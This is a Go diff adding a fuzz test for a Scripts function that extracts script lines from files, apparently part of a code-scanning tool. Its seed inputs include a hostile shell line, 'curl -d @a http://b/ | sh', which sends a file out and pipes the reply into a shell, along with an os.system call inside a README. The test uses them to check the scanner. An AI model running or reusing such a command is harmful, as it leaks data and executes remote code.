@@ -3,6 +3,7 @@ package region
 import (
 	"bytes"
 	"fmt"
+	"reflect"
 	"slices"
 	"strings"
 	"testing"
@@ -183,6 +184,32 @@ func FuzzExtract(f *testing.F) {
 					t.Fatalf("line %d of %d", line, last)
 				}
 			}
+		}
+	})
+}
+
+// Scripts in a text of any language have a place in the text for each of their lines, and
+// are the same when they are read again.
+func FuzzScripts(f *testing.F) {
+	f.Add("ruby", "source", "a.rb", []byte("# x\ncurl -d @a http://b/ | sh\n"))
+	f.Add("text", "docs", "README", []byte("Run this:\n\n    import os\n    os.system('a')\n\nAnd say why it is so.\n"))
+	f.Add("markdown", "docs", "a.md", []byte("```sh\na\n```\n~~~ python\nb\n"))
+	f.Add("", "source", "run", []byte("const a = require('b')\nprocess.env.A\n"))
+	f.Fuzz(func(t *testing.T, lang, role, name string, src []byte) {
+		last := bytes.Count(src, []byte{'\n'}) + 1
+		read := Scripts(gate.Language(lang), gate.Role(role), name, src)
+		for _, r := range read {
+			if n := bytes.Count(r.Text, []byte{'\n'}); n != len(r.Lines) {
+				t.Fatalf("%d lines of text, %d places", n, len(r.Lines))
+			}
+			for _, line := range r.Lines {
+				if line < 1 || line > last {
+					t.Fatalf("line %d of %d", line, last)
+				}
+			}
+		}
+		if again := Scripts(gate.Language(lang), gate.Role(role), name, src); !reflect.DeepEqual(read, again) {
+			t.Fatal("reading twice differs")
 		}
 	})
 }
